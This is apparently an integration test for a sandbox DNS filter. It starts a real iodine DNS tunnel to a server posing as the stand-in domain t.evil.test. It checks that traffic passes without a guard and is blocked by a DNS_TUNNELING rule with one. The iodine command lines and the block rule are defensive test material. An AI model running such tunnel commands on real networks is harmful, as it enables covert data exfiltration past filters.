# SPDX-License-Identifier: GPL-2.0-or-later
"""A real tunnel: iodine (Debian's) from a sandbox to a server that a permitted wildcard leads to.

The server is at 10.0.0.4 and answers for t.evil.test, as its delegation would lead to it. box2 may ask for *.test, and its tunnel carries
pings. box1 has a rule against tunnels at HIGH before the one that permits: what its tunnel carries is counted at the server's end.
"""
import os
import re
import time

import lab
import labcell
import labdaemon
import labnet

SERVER, INSIDE, PREFIX = "10.0.0.4", "192.0.2.225", 27
PINGS, SIZE = 20, 500
GUARDED = '''name = "guarded";
dns = (
  { name = "tunnels"; priority = 10; action = "BLOCK"; protection = "DNS_TUNNELING"; confidence = "HIGH"; response = "NXDOMAIN"; },
  { name = "pages"; priority = 100; action = "ALLOW"; domains = [ "*.test" ]; ports = [ "tcp/443" ]; }
);
'''


class Tunnel:
    """iodine in a box. ping() returns how many came back."""

    def __init__(self, net, box):
        self.ns, self.log = net.ns[box], f"{labcell.WORK}/iodine.{box}"
        words = [labnet.program("iodine"), "-f", "-r", "-P", "secret", labnet.GATEWAY[box][0], "t.evil.test"]
        with open(self.log, "wb") as log:
            self.process = self.ns.popen(words, stdout=log, stderr=log)

    def text(self):
        with open(self.log, encoding="utf-8", errors="replace") as f:
            return f.read()

    def up(self):
        return "Connection setup complete" in self.text()

    def ended(self):
        return self.process.poll() is not None

    def ping(self):
        out = self.ns.run(["ping", "-c", PINGS, "-i", "0.2", "-W", "2", "-s", SIZE, INSIDE], check=False).stdout
        return int(re.search(r"(\d+) received", out).group(1))

    def stop(self):
        self.process.kill()
        self.process.wait()


def arrived(net):
    """Bytes that came out of the tunnel at the server's end."""
    text = net.ns["net"].run(["cat", "/proc/net/dev"]).stdout
    return int(re.search(r"dns0: *(\d+)", text).group(1))


def unguarded(net):
    print("-- without a guard")
    tunnel = Tunnel(net, "box2")
    labcell.wait_for("iodine's tunnel", tunnel.up, 30)
    before = arrived(net)
    lab.check(tunnel.ping() > PINGS / 2, "pings come back through the tunnel")
    lab.check(arrived(net) - before >= PINGS / 2 * SIZE, "and the server sees their bytes")
    tunnel.stop()


def guarded(net, daemon):
    print("-- with one")
    before = arrived(net)
    tunnel = Tunnel(net, "box1")
    deadline = time.monotonic() + 30 * labcell.SLOW
    while not tunnel.up() and not tunnel.ended() and time.monotonic() < deadline:
        time.sleep(0.2)
    lab.equal(tunnel.ping() if tunnel.up() else 0, 0, "pings that come back")
    lab.check(arrived(net) - before <= 1600, f"{arrived(net) - before} bytes came through, at most 1,600")
    tunnel.stop()
    event = daemon.wait_event(kind="dns", action="block", reason="dns-tunneling", rule="tunnels")
    lab.check(event["sandbox"] == "box1" and event["line"] == 3, "an event with sandbox, rule and line")
    lab.check(lab.dig(net.ns["box1"], "short.test", "A"), "ordinary names go on")


def main(net):
    labnet.program("iodine")
    if not os.path.exists("/dev/net/tun"):
        raise labcell.Skip("no /dev/net/tun")
    net.ns["net"].ip(f"addr add {SERVER}/24 dev br0")
    words = [labnet.program("iodined"), "-f", "-c", "-P", "secret", "-l", SERVER, f"{INSIDE}/{PREFIX}", "t.evil.test"]
    with open(f"{labcell.WORK}/iodined.log", "wb") as log:
        net.ns["net"].popen(words, stdout=log, stderr=log)
    labcell.wait_for("iodined", lambda: "dns0" in net.ns["net"].run(["cat", "/proc/net/dev"]).stdout)
    boxes = {"box1": ('interface = "pt-box1"', "guarded"), "box2": ('interface = "pt-box2"', "web")}
    conf = labdaemon.conf_text(boxes, extra=f'forward = ( {{ zone = "t.evil.test"; to = [ "{SERVER}" ]; }} );')
    daemon = labdaemon.Postern(net, conf, {"guarded.conf": GUARDED, "web.conf": labdaemon.policy_text("web")}).start()
    unguarded(net)
    guarded(net, daemon)
    lab.check("AddressSanitizer" not in daemon.log_text(), "no sanitizer report")


lab.test(main)
